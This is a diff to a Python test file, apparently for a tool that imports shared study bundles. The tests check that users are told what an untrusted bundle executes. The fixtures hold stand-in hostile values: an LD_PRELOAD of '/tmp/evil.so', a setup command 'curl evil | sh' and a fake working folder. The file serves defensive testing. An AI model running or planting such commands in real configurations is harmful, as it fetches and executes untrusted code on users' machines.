@@ -111,7 +111,8 @@ def _bring_study(config, tmp_path, monkeypatch, repeats=1):
     study = nbkit.Study.create("s", {"a": config}, **plan)
     content = json.loads(study.paths.study.read_text())
     entry = {"arm": "a", "repeat": 0, "run_id": done.run_id, "start": 0}
-    write_json(study.paths.study, {**content, "runs": [entry]})
+    programs = {"a": {"number": 0, "cwd": "/evil/folder"}}
+    write_json(study.paths.study, {**content, "runs": [entry], "programs": programs})
     imported(study, tmp_path, monkeypatch)
     return nbkit.Study.open(study.study_id)
 
@@ -141,6 +142,7 @@ def test_who_trusts_a_bundles_study_is_told_what_it_executes(
     told = capsys.readouterr().out
     assert "  environment 'LD_PRELOAD': '/tmp/evil.so'\n" in told
     assert "  slurm.setup: ['curl evil | sh']\n" in told
+    assert "  working folder: '/evil/folder'\n" in told
 
 
 WAYS = {
